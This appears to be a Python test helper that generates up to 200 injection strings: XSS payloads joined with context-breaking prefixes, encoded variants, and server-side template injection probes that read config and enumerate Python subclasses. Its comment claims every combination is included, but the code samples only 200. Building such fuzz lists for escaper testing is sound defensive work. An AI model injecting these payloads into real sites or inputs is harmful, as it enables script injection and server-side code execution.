"""Two hundred texts that try to become code in a page: ways out of where they stand, times what they would run."""

from itertools import islice, product

OUT = ("", '"', "'", ">", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", "</pre></details>", "`", "</svg>", "&quot;>", "\\\">", "%22%3E")  # fmt: skip
CODE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
    " onmouseover=alert(1) onfocus=alert(1) autofocus x=",
    "<details open ontoggle=alert(1)>",
    "<math><mi xlink:href=javascript:alert(1)>x",
    "<base href=//example.com/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import url(//example.com/x);</style>",
)
WHOLE = (
    "{{7*7}}{{config}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "<ſcript>alert(1)</ſcript>",
    "${alert(1)}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u2028alert(1)\u2029",
    "<!--<script>alert(1)//--></script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)
COUNT = 200


def payloads() -> list[str]:
    found = [*WHOLE, *(out + code for code, out in product(CODE, OUT))]
    # Every CODE with every OUT, and no more than asked for, spread over all of them.
    step = len(found) / COUNT
    return list(dict.fromkeys(found[int(number * step)] for number in islice(range(len(found)), COUNT)))
